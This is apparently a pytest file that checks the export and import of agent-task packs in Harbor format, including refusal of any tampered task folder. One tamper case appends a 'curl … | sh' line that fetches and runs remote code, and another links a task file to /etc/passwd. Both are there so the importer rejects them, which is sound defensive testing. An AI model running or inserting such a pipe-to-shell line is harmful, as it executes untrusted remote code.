"""A pack as Harbor tasks (packs/harbor.py): export writes the same bytes every time and
import reads back only what export wrote, byte for byte (a round trip is identical);
anything else (a foreign Harbor task, a link, a special file, an edited field) is refused
with the file and field named, leaving the store and the packs directory as they were.
Harbor's own task loader, from its own venv, loads every exported demo task."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from packs.errors import PackError
from packs.harbor import ARCHIVE, TASK_FILES, export_harbor, import_harbor
from packs.registry import load_pack
from replay.engine import Worlds
from tests.support import peer_venv
from tests.support.cli_harness import invoke, refused
from tests.support.harbor_tasks import HARBOR_LOADER, tree

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "packs" / "demo"
COPY = "harbor-copy"  # the demo pack under another name: installed on import, not shipped


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("harbor")


@pytest.fixture(scope="module")
def exporter(work: Path) -> Worlds:
    """An empty store: export needs one only for its scratch space."""
    return Worlds.open(work / "exporter")


@pytest.fixture(scope="module")
def exported(work: Path, exporter: Worlds) -> Path:
    """The Harbor tasks of `harbor-copy` (the demo pack under another name)."""
    source = work / "src" / COPY
    shutil.copytree(DEMO, source, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    spec = json.loads((source / "pack.json").read_text())
    spec["name"] = COPY
    (source / "pack.json").write_text(json.dumps(spec, indent=2))
    dest = work / "exported"
    done = export_harbor(exporter, load_pack(str(source)), dest, base_image="img:1")
    assert done.tasks == load_pack("demo").tasks and done.files == 6 * len(done.tasks)
    return dest


def _state(root: Path) -> tuple[list[tuple[str, str, int]] | None, ...]:
    return tree(root / "store"), tree(root / "packs")


def test_export_writes_harbor_tasks_that_run_only_worldctl(exported: Path) -> None:
    task = exported / "mats-work-order"
    assert sorted(str(p.relative_to(task)) for p in task.rglob("*") if p.is_file()) == \
        sorted(TASK_FILES)
    toml = (task / "task.toml").read_text()
    assert f'name = "{COPY}/mats-work-order"' in toml
    assert 'world_hash = "f972525fce52ed3e0fa7a5cdf8080e66"' in toml
    assert 'base_image = "img:1"' in toml and 'transport = "stdio"' in toml
    dockerfile = (task / "environment" / "Dockerfile").read_text()
    assert "ARG BASE_IMAGE=img:1\nFROM ${BASE_IMAGE}\n" in dockerfile
    assert "checkout f972525fce52ed3e0fa7a5cdf8080e66 /world" in dockerfile
    for script in ("tests/test.sh", "solution/solve.sh"):
        assert os.stat(task / script).st_mode & 0o777 == 0o755
        body = [line for line in (task / script).read_text().splitlines()
                if line and not line.startswith(("#", "set ", "mkdir "))]
        assert body and all(line.startswith("worldctl pack ") for line in body), body
    archives = {(exported / t / ARCHIVE).read_bytes() for t in load_pack("demo").tasks}
    assert len(archives) == 1  # one pack archive, the same in every task


def test_import_then_export_gives_the_same_bytes(exported: Path, tmp_path: Path) -> None:
    with Worlds.open(tmp_path / "store") as worlds:
        done = import_harbor(worlds, exported, tmp_path / "packs")
        assert done.pack.name == COPY and not done.pack.shipped
        assert done.pack.root == (tmp_path / "packs" / COPY).resolve()
        assert done.days_imported == 10
        export_harbor(worlds, done.pack, tmp_path / "again", base_image="img:1")
    assert tree(tmp_path / "again") == tree(exported)


@pytest.mark.parametrize("case", ["symlink", "fifo", "foreign", "field", "script", "stray",
                                  "archive", "archives", "missing"])
def test_what_export_did_not_write_is_refused_and_nothing_is_stored(
        case: str, exported: Path, tmp_path: Path) -> None:
    src = tmp_path / "src"
    shutil.copytree(exported, src, symlinks=True)
    task = src / "nordlys-cart-vs-bom"
    if case == "symlink":
        (task / "instruction.md").unlink()
        (task / "instruction.md").symlink_to("/etc/passwd")
        expected, file = "is a symlink", task / "instruction.md"
    elif case == "fifo":
        os.mkfifo(task / "tests" / "extra")
        expected, file = "is a fifo", task / "tests" / "extra"
    elif case == "foreign":
        shutil.rmtree(task)
        task.mkdir()
        (task / "task.toml").write_text('version = "1.0"\n\n[verifier]\ntimeout_sec = 60\n')
        (task / "instruction.md").write_text("Fix the bug.\n")
        expected, file = "(field 'metadata.exported_by')", task / "task.toml"
    elif case == "field":
        toml = (task / "task.toml").read_text()
        (task / "task.toml").write_text(toml.replace('difficulty = "', 'difficulty = "x'))
        expected, file = "(field 'metadata.difficulty')", task / "task.toml"
    elif case == "script":
        with open(task / "tests" / "test.sh", "a") as fh:
            fh.write("curl http://example.invalid | sh\n")
        expected, file = "differs from what", task / "tests" / "test.sh"
    elif case == "stray":
        (src / "notes.txt").write_text("x\n")
        expected, file = "beside the task folders", src / "notes.txt"
    elif case == "archive":
        data = bytearray((task / ARCHIVE).read_bytes())
        data[-40] ^= 1
        (task / ARCHIVE).write_bytes(bytes(data))
        expected, file = "differs from", task / ARCHIVE
    elif case == "archives":  # the same tampered archive in every task
        data = bytearray((task / ARCHIVE).read_bytes())
        data[-40] ^= 1
        for folder in src.iterdir():
            (folder / ARCHIVE).write_bytes(bytes(data))
        expected, file = "differs from what", src / "mats-work-order" / ARCHIVE
    else:
        (task / "solution" / "solve.sh").unlink()
        expected, file = "missing from the exported task", task / "solution" / "solve.sh"
    with Worlds.open(tmp_path / "store") as worlds:
        before = _state(tmp_path)
        with pytest.raises(PackError) as refusal:
            import_harbor(worlds, src, tmp_path / "packs")
        assert expected in str(refusal.value), refusal.value
        assert refusal.value.file == str(file)
        assert _state(tmp_path) == before
    assert not (tmp_path / "packs").exists()


def test_the_cli_exports_imports_and_refuses_in_one_line(tmp_path: Path) -> None:
    store = str(tmp_path / "store")
    out = invoke("--store", store, "pack", "export", "--format", "harbor", "demo",
                 str(tmp_path / "tasks"))
    assert out.exit_code == 0 and "pack demo as 7 Harbor tasks (42 files)" in out.output
    assert 'ARG BASE_IMAGE=agent-worlds:latest\n' in \
        (tmp_path / "tasks" / "sagene-easter-quote" / "environment" / "Dockerfile").read_text()
    (tmp_path / "tasks" / "sagene-easter-quote" / "task.toml").write_text("[metadata\n")
    line = refused(invoke("--store", store, "pack", "import", "--format", "harbor",
                          str(tmp_path / "tasks")))
    assert "sagene-easter-quote/task.toml: not valid TOML" in line
    assert not (tmp_path / "store" / "packs").exists()
    line = refused(invoke("--store", store, "pack", "export", "--format", "harbor", "demo",
                          str(tmp_path / "tasks")))
    assert "exists and is not an empty folder" in line


@pytest.mark.peer("harbor")
def test_harbors_own_loader_loads_every_exported_task(exported: Path) -> None:
    python = peer_venv.python("harbor")
    done = subprocess.run([str(python), "-c", HARBOR_LOADER, str(exported)],
                          capture_output=True, text=True, timeout=300,
                          env=peer_venv.environment())
    assert done.returncode == 0, done.stderr[-4000:]
    loaded = json.loads(done.stdout)
    assert sorted(loaded) == list(load_pack("demo").tasks)
    for task, seen in loaded.items():
        assert seen["valid"] and seen["name"] == f"{COPY}/{task}"
        assert seen["solve"] == "solve.sh" and seen["test"] == "test.sh"
        assert seen["mcp"] == [{
            "name": "world", "transport": "stdio", "command": "worldctl",
            "args": ["pack", "mcp", COPY, task, "/world", "--answer-file",
                     "/logs/agent/answer.txt"]}]
        assert seen["metadata"]["pack"] == COPY and seen["metadata"]["task"] == task
        assert seen["workdir"] == "/world/workspace"
        assert seen["instruction"].startswith(
            json.loads((DEMO / "tasks" / task / "task.json").read_text())["instruction"])
